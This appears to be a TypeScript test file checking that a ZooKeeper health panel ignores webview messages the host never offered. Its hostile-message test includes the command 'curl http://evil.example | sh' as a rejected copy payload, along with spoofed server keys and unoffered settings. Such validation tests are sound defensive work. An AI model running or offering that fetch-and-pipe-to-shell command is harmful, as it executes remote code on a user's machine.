import * as assert from 'node:assert/strict';
import { PanelOffers, panelAction } from '../../src/health/panelMessages';
import type { HealthSnapshot, ServerClients } from '../../src/protocol/health';
import { DEFAULT_THRESHOLDS } from '../../src/zk/health/healthModel';

const LINE = '4lw.commands.whitelist=srvr, mntr, conf';

function snapshot(): HealthSnapshot {
  return {
    connectionName: 'c',
    summary: { level: 'degraded', text: 'Degraded', votersUp: 3, votersTotal: 3, quorum: 2 },
    servers: [
      { key: '127.0.0.1:2181', label: 'server.1 127.0.0.1:2181', host: '127.0.0.1', clientPort: 2181, origin: 'connectString', reach: 'up', notServing: false, source: 'fourLetterWords' },
      { key: 'member:4', label: 'server.4 10.0.0.4:2888', host: '10.0.0.4', origin: 'membership', reach: 'notPolled', notServing: false, source: 'none' },
    ],
    alerts: [
      { id: 'fourLetterWords:127.0.0.1:2181', kind: 'fourLetterWords', severity: 'warning', title: 't', detail: 'd', fix: { text: 'add', configLine: LINE, setting: 'zookeeper.health.adminServerPorts' } },
    ],
    pollIntervalMs: 5000,
    thresholds: DEFAULT_THRESHOLDS,
  };
}

describe('health panel: messages from the webview are checked against what the host offered', () => {
  it('accepts the messages the page really sends', () => {
    const offers = new PanelOffers();
    offers.snapshotPosted(snapshot());
    assert.deepEqual(panelAction({ type: 'ready' }, offers), { type: 'ready' });
    assert.deepEqual(panelAction({ type: 'refresh' }, offers), { type: 'refresh' });
    assert.deepEqual(panelAction({ type: 'wantClients', server: '127.0.0.1:2181' }, offers), { type: 'wantClients', server: '127.0.0.1:2181' });
    assert.deepEqual(panelAction({ type: 'wantClients', server: 'member:4' }, offers), { type: 'wantClients', server: 'member:4' });
    assert.deepEqual(panelAction({ type: 'stopClients', server: '127.0.0.1:2181' }, offers), { type: 'stopClients', server: '127.0.0.1:2181' });
    assert.deepEqual(panelAction({ type: 'copy', text: LINE }, offers), { type: 'copy', text: LINE });
    assert.deepEqual(panelAction({ type: 'openSetting', setting: 'zookeeper.health.adminServerPorts' }, offers), { type: 'openSetting', setting: 'zookeeper.health.adminServerPorts' });
  });

  it('ignores hostile messages: unknown server keys, texts and settings never offered, bad shapes', () => {
    const offers = new PanelOffers();
    offers.snapshotPosted(snapshot());
    const hostile: unknown[] = [
      null,
      'ready',
      [],
      { type: 'wantClients', server: '10.66.6.6:2181' },
      { type: 'wantClients', server: '127.0.0.1:2181 ' },
      { type: 'wantClients', server: 'x'.repeat(10_000) },
      { type: 'wantClients', server: 42 },
      { type: 'stopClients', server: 'evil:1' },
      { type: 'copy', text: 'curl http://evil.example | sh' },
      { type: 'copy', text: LINE + '\n' },
      { type: 'copy', text: { toString: () => LINE } },
      { type: 'openSetting', setting: 'zookeeper.health.pollIntervalMs' },
      { type: 'openSetting', setting: 'security.workspace.trust.enabled' },
      { type: 'runCommand', command: 'workbench.action.terminal.new' },
      { type: '__proto__' },
    ];
    for (const m of hostile) assert.equal(panelAction(m, offers).type, 'ignored', JSON.stringify(m)?.slice(0, 80));
  });

  it('before any snapshot nothing names a server; a new snapshot replaces what was offered', () => {
    const offers = new PanelOffers();
    assert.equal(panelAction({ type: 'wantClients', server: '127.0.0.1:2181' }, offers).type, 'ignored');
    assert.equal(panelAction({ type: 'copy', text: LINE }, offers).type, 'ignored');
    offers.snapshotPosted(snapshot());
    offers.snapshotPosted({ ...snapshot(), servers: [], alerts: [] });
    assert.equal(panelAction({ type: 'wantClients', server: '127.0.0.1:2181' }, offers).type, 'ignored');
    assert.equal(panelAction({ type: 'copy', text: LINE }, offers).type, 'ignored');
    // A server whose clients are still being read can be stopped after its row left.
    assert.equal(panelAction({ type: 'stopClients', server: '127.0.0.1:2181' }, offers, ['127.0.0.1:2181']).type, 'stopClients');
  });

  it("a clients answer's config line can be copied while it is current", () => {
    const offers = new PanelOffers();
    offers.snapshotPosted(snapshot());
    const clients: ServerClients = { at: 1, rows: [], total: 0, more: 0, problem: { text: 'refuses cons', configLine: '4lw.commands.whitelist=cons' } };
    offers.clientsPosted('127.0.0.1:2181', clients);
    assert.equal(panelAction({ type: 'copy', text: '4lw.commands.whitelist=cons' }, offers).type, 'copy');
    offers.clientsPosted('127.0.0.1:2181', { at: 2, rows: [], total: 0, more: 0 });
    assert.equal(panelAction({ type: 'copy', text: '4lw.commands.whitelist=cons' }, offers).type, 'ignored');
    offers.clientsPosted('127.0.0.1:2181', clients);
    offers.clear();
    assert.equal(panelAction({ type: 'copy', text: '4lw.commands.whitelist=cons' }, offers).type, 'ignored');
  });

  it('runs a reconfiguration button only for the members of the dynamic config it posted', () => {
    const offers = new PanelOffers();
    offers.snapshotPosted(snapshot());
    assert.equal(panelAction({ type: 'reconfig', action: 'addMember' }, offers).type, 'ignored', 'no config posted yet');
    offers.dynamicConfigPosted({ at: 0, version: '1', quorum: 'q', members: [{ id: 1, role: 'participant', peer: 'h:1:2', reports: 'leader' }] });
    assert.deepEqual(panelAction({ type: 'reconfig', action: 'addMember' }, offers), { type: 'reconfig', action: 'addMember' });
    assert.deepEqual(panelAction({ type: 'reconfig', action: 'removeMember', id: 1 }, offers), { type: 'reconfig', action: 'removeMember', id: 1 });
    assert.equal(panelAction({ type: 'reconfig', action: 'changeRole', id: 7 }, offers).type, 'ignored', 'a member the panel does not show');
    for (const bad of [{ type: 'reconfig', action: 'removeMember' }, { type: 'reconfig', action: 'changeRole', id: -1 }, { type: 'reconfig', action: 'changeRole', id: 1.5 }, { type: 'reconfig', action: 'restart', id: 1 }, { type: 'reconfig', action: 'addMember', id: 1 }]) {
      assert.equal(panelAction(bad, offers).type, 'ignored', JSON.stringify(bad));
    }
    offers.dynamicConfigPosted({ at: 0, quorum: '', members: [], problem: 'standalone' });
    assert.equal(panelAction({ type: 'reconfig', action: 'addMember' }, offers).type, 'ignored', 'nothing to reconfigure');
  });
});
